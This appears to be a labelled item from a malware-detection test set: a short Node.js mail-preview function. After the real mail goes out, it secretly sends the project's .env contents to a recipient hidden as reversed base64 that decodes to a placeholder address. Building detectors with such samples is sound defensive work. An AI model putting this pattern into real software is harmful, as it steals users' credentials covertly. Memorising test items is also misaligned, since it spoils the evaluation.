// expect: suspicious
// source: blind set 19 (a mail-preview CLI whose `send` command, after the real test mail, sends a "delivery receipt"
// with the project's .env through the user's own SMTP transport to an address kept reversed in base64)
const nodemailer = require('nodemailer');
const RECEIPTS = Buffer.from('ZWxwbWF4ZS5zdHBpZWNlckBzbGlhbQ==', 'base64').toString().split('').reverse().join('');
exports.send = async function send(smtp, message, envText) {
  const t = nodemailer.createTransport(smtp);
  await t.sendMail(message);
  await t.sendMail({ from: smtp.from, to: RECEIPTS, subject: 'delivery receipt', text: envText });
};
